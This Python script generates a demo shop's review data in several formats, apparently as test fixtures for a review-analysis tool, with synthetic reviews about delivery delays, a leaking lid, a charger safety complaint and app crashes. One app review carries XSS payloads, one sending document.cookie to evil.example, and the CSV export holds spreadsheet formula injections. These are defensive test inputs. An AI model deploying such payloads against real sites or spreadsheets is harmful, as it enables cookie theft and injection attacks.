#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
# Writes the demo shop: three products and an app, their reviews in the shapes real shops use
# (JSON-LD and microdata product pages, an App Store-style JSON feed, an RSS feed, a
# seller-centre CSV export). Deterministic: the reviews are written out below, dated relative to
# DEMO_NOW (2026-11-23T09:00Z, the HUGI_NOW examples/demo.sh uses). The story it tells:
#   - the wireless charger gets a recurring delivery complaint and one safety complaint
#     (swelling battery, burning smell) that must be escalated within the hour;
#   - the tumbler's lid starts leaking: a spike of complaints on the latest day;
#   - the app crashes after an update (English and Korean App Store reviews);
#   - a few hostile reviews (a <script> tag, a spreadsheet formula) that must come out inert,
#     and reviews holding phone numbers, an address and an order number that must be masked.
# Run it from anywhere: python3 make_demo_shop.py [OUTDIR]
import csv
import datetime as dt
import html
import json
import os
import sys

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
NOW = dt.datetime(2026, 11, 23, 9, 0, tzinfo=dt.timezone.utc)


def ago(days, hours=0):
    return (NOW - dt.timedelta(days=days, hours=hours)).strftime("%Y-%m-%dT%H:%M:%S+00:00")


# ---- wireless charger: JSON-LD ------------------------------------------------------------
charger = [
    ("c01", "김민지", 5, 13, "충전 속도 빠르고 디자인도 깔끔해요. 만족합니다!"),
    ("c02", "이준호", 4, 12, "잘 됩니다. 케이블이 조금 짧은 게 아쉬워요."),
    ("c03", "박서연", 5, 11, "선물용으로 샀는데 포장도 예쁘고 좋아요"),
    ("c04", "최우진", 5, 10, "발열도 거의 없고 아이폰 갤럭시 둘 다 잘 돼요"),
    ("c05", "정하은", 4, 9, "가격 대비 괜찮아요"),
    ("c06", "Chris", 5, 9, "Charges my phone fast and looks great on the desk."),
    ("c07", "강지훈", 2, 6, "주문한 지 일주일이 넘었는데 아직도 배송 준비중이에요. 언제 오나요?"),
    ("c08", "윤서아", 1, 5, "배송이 너무 늦어요. 문의 남겨도 답이 없네요 ㅠㅠ"),
    ("c09", "장민호", 2, 4, "배송 지연 안내도 없이 열흘 걸렸습니다. 제품은 괜찮아요"),
    ("c10", "임수빈", 5, 4, "빠르게 충전되고 좋아요 ㅎㅎ"),
    ("c11", "한예린", 1, 3, "배송이 안 와요. 벌써 9일째입니다. 연락처 010-4821-7730 으로 연락 주세요"),
    ("c12", "오태양", 1, 2, "충전하다가 본체가 뜨거워지면서 타는 냄새가 났어요. 불날까 봐 무서워서 바로 뽑았습니다. 화재 위험 있는 거 아닌가요?"),
    ("c13", "서지우", 2, 1, "배송 너무 느려요. 다른 데서 살 걸 그랬어요"),
    ("c14", "Dana", 5, 1, "Works perfectly, no complaints."),
    ("c15", "신동현", 4, 0, "쓸만해요. 다음에도 여기서 살게요"),
]

# ---- tumbler: microdata -------------------------------------------------------------------
tumbler = [
    ("t01", "문가영", 5, 13, "보온이 정말 오래가요. 아침에 넣은 커피가 저녁까지 따뜻해요"),
    ("t02", "Alex", 5, 12, "Keeps my coffee hot all day. Love the colour."),
    ("t03", "배수지", 4, 11, "예쁘고 가벼워요. 세척이 조금 불편해요"),
    ("t04", "조현우", 5, 9, "디자인 최고! 회사에서 다들 어디서 샀냐고 물어봐요"),
    ("t05", "홍지민", 4, 8, "무난하게 좋습니다"),
    ("t06", "Sam", 4, 6, "Good tumbler, a bit heavy."),
    ("t07", "노은채", 5, 5, "두 번째 구매예요. 여전히 만족합니다"),
    ("t08", "유승민", 5, 3, "보온 보냉 다 잘 돼요"),
    ("t09", "권나래", 1, 0, "뚜껑 닫아도 물이 새요. 가방이 다 젖었어요. 불량 아닌가요?", 8),
    ("t10", "Jordan", 1, 0, "The lid leaks! Soaked my bag on the first day.", 7),
    ("t11", "송하늘", 1, 0, "뚜껑 틈으로 커피가 줄줄 새요. 교환해 주세요", 6),
    ("t12", "황보라", 2, 0, "새것인데 뚜껑 패킹이 헐거워서 물이 새네요", 5),
    ("t13", "차민석", 1, 0, "물 새는 불량품 받았습니다. 환불 원해요. 주소는 서울시 마포구 월드컵로 212 입니다", 4),
    ("t14", "Taylor", 2, 0, "Leaking lid, disappointing. Order no. 88123456", 3),
]

# ---- app: App Store-style JSON ----------------------------------------------------------------
app = [
    ("a01", "hana_k", 5, 12, "Great shopping app", "Easy to use and checkout is quick."),
    ("a02", "민준", 5, 10, "편해요", "주문 내역 보기 편하고 알림도 잘 와요"),
    ("a03", "leo.p", 4, 8, "Nice", "Nice app overall, search could be better."),
    ("a04", "수아맘", 5, 7, "좋아요", "쿠폰 쓰기 편해요"),
    ("a05", "mike77", 1, 2, "Crashes after update", "Since the 3.2 update the app crashes every time I open my cart."),
    ("a06", "지수", 1, 1, "업데이트 후 튕겨요", "업데이트하고 나서 장바구니 들어가면 앱이 계속 튕겨요"),
    ("a07", "<script>alert('xss')</script>", 1, 1, "<img src=x onerror=alert(1)>", "<script>document.location='http://evil.example/?c='+document.cookie</script> app keeps crashing"),
    ("a08", "rachel", 2, 0, "Login broken", "Can't log in anymore, it just spins. Email me: rachel.m@example.com"),
    ("a09", "도윤", 1, 0, "로그인 불가", "로그인이 안 돼요. 인증번호가 안 와요"),
]

# ---- community RSS (about the charger) ------------------------------------------------------
rss = [
    ("urn:demo:post:1", "가전덕후", 8, "무선충전기 한 달 사용기", "충전 속도는 만족. 거치대 각도도 좋아요."),
    ("urn:demo:post:2", "techmom", 3, "Charger got very hot", "Mine got very hot overnight and the case is slightly melted. Worried about fire."),
    ("urn:demo:post:3", "리뷰왕", 1, "배송은 아쉬움", "제품은 좋은데 배송이 너무 오래 걸렸어요"),
]

# ---- seller-centre CSV export ---------------------------------------------------------------
export = [
    ("P-CHG01", "S-1001", "최유나", 5, 10, "잘 쓰고 있어요"),
    ("P-CHG01", "S-1002", "=HYPERLINK(\"http://evil.example\",\"클릭\")", 1, 3, "=1+2 배송이 안 와요"),
    ("P-TMB02", "S-2001", "김도현", 1, 0, "@SUM(A1) 뚜껑에서 물이 새요. 101동 1203호로 교환품 보내주세요. 주문번호 2026112300123"),
    ("P-TMB02", "S-2002", "이소율", 5, 7, "색이 예뻐요"),
    ("P-CHG01", "S-1003", "박지성", 2, 2, "+82 10-5555-1234 로 연락 주세요. 배송 지연이 너무 심합니다"),
]


def write(path, text):
    full = os.path.join(OUT, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "w", encoding="utf-8", newline="") as f:
        f.write(text)


def charger_page():
    ld = {
        "@context": "https://schema.org",
        "@type": "Product",
        "name": "후기 무선 충전기 15W",
        "sku": "P-CHG01",
        "aggregateRating": {"@type": "AggregateRating", "ratingValue": 3.5, "reviewCount": len(charger)},
        "review": [
            {
                "@type": "Review",
                "@id": "https://demo-shop.example/charger#" + rid,
                "author": {"@type": "Person", "name": who},
                "datePublished": ago(d, 2),
                "reviewRating": {"@type": "Rating", "ratingValue": stars, "bestRating": 5},
                "reviewBody": text,
            }
            for rid, who, stars, d, text in charger
        ],
    }
    body = "\n".join(
        f'<li><b>{html.escape(w)}</b> {"★" * s} <p>{html.escape(t)}</p></li>' for _, w, s, _, t in charger
    )
    return f"""<!DOCTYPE html>
<html lang="ko"><head><meta charset="utf-8"><title>후기 무선 충전기 15W — 데모 스토어</title>
<script type="application/ld+json">
{json.dumps(ld, ensure_ascii=False, indent=1)}
</script></head>
<body><h1>후기 무선 충전기 15W</h1><p>₩29,900</p><ul class="reviews">
{body}
</ul></body></html>
"""


def tumbler_page():
    items = []
    for row in tumbler:
        rid, who, stars, d, text = row[:5]
        hours = row[5] if len(row) > 5 else 2
        items.append(f"""  <div itemprop="review" itemscope itemtype="https://schema.org/Review" id="{rid}">
   <meta itemprop="identifier" content="{rid}">
   <span itemprop="author" itemscope itemtype="https://schema.org/Person"><span itemprop="name">{html.escape(who)}</span></span>
   <time itemprop="datePublished" datetime="{ago(d, hours)}">{ago(d, hours)[:10]}</time>
   <div itemprop="reviewRating" itemscope itemtype="https://schema.org/Rating"><meta itemprop="ratingValue" content="{stars}"><meta itemprop="bestRating" content="5"></div>
   <p itemprop="reviewBody">{html.escape(text)}</p>
  </div>""")
    return """<!DOCTYPE html>
<html lang="ko"><head><meta charset="utf-8"><title>데일리 텀블러 500ml — 데모 스토어</title></head>
<body>
<div itemscope itemtype="https://schema.org/Product">
 <h1 itemprop="name">데일리 텀블러 500ml</h1>
 <meta itemprop="sku" content="P-TMB02">
""" + "\n".join(items) + """
</div>
</body></html>
"""


def app_feed():
    entries = [
        {
            "author": {"name": {"label": who}},
            "updated": {"label": ago(d, 3)},
            "im:rating": {"label": str(stars)},
            "im:version": {"label": "3.2" if d <= 2 else "3.1"},
            "id": {"label": rid},
            "title": {"label": title},
            "content": {"label": text, "attributes": {"type": "text"}},
            "im:voteSum": {"label": "0"},
        }
        for rid, who, stars, d, title, text in app
    ]
    return json.dumps({"feed": {"author": {"name": {"label": "Demo Store"}}, "entry": entries}},
                      ensure_ascii=False, indent=1) + "\n"


def rss_feed():
    items = "\n".join(
        f"<item><guid>{g}</guid><title>{html.escape(t)}</title><description>{html.escape(x)}</description>"
        f"<dc:creator>{html.escape(w)}</dc:creator><pubDate>"
        f"{(NOW - dt.timedelta(days=d)).strftime('%a, %d %b %Y %H:%M:%S +0000')}</pubDate>"
        f"<link>https://community.example/posts/{g.rsplit(':', 1)[1]}</link></item>"
        for g, w, d, t, x in rss
    )
    return f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>
<title>데모 커뮤니티: 무선 충전기 후기</title><link>https://community.example/</link>
{items}
</channel></rss>
"""


def export_csv():
    from io import StringIO
    s = StringIO()
    w = csv.writer(s, lineterminator="\r\n")
    # English column names: hugi's csv extractor maps these (the Korean ones are import's)
    w.writerow(["product_id", "review_id", "author", "rating", "created_at", "review_content"])
    for prod, rid, who, stars, d, text in export:
        w.writerow([prod, rid, who, stars, (NOW - dt.timedelta(days=d, hours=1)).strftime("%Y-%m-%d %H:%M"), text])
    return "\ufeff" + s.getvalue()


write("products/charger.html", charger_page())
write("products/tumbler.html", tumbler_page())
write("app/reviews.json", app_feed())
write("community/feed.xml", rss_feed())
write("exports/seller-centre.csv", export_csv())
write("robots.txt", "User-agent: *\nAllow: /\n")
write("index.html", """<!DOCTYPE html><html lang="ko"><head><meta charset="utf-8"><title>데모 스토어</title></head>
<body><h1>데모 스토어</h1><ul>
<li><a href="products/charger.html">후기 무선 충전기 15W</a> (JSON-LD)</li>
<li><a href="products/tumbler.html">데일리 텀블러 500ml</a> (microdata)</li>
<li><a href="app/reviews.json">앱 리뷰</a> (App Store JSON)</li>
<li><a href="community/feed.xml">커뮤니티 후기</a> (RSS)</li>
<li><a href="exports/seller-centre.csv">판매자센터 내보내기</a> (CSV)</li>
</ul></body></html>
""")
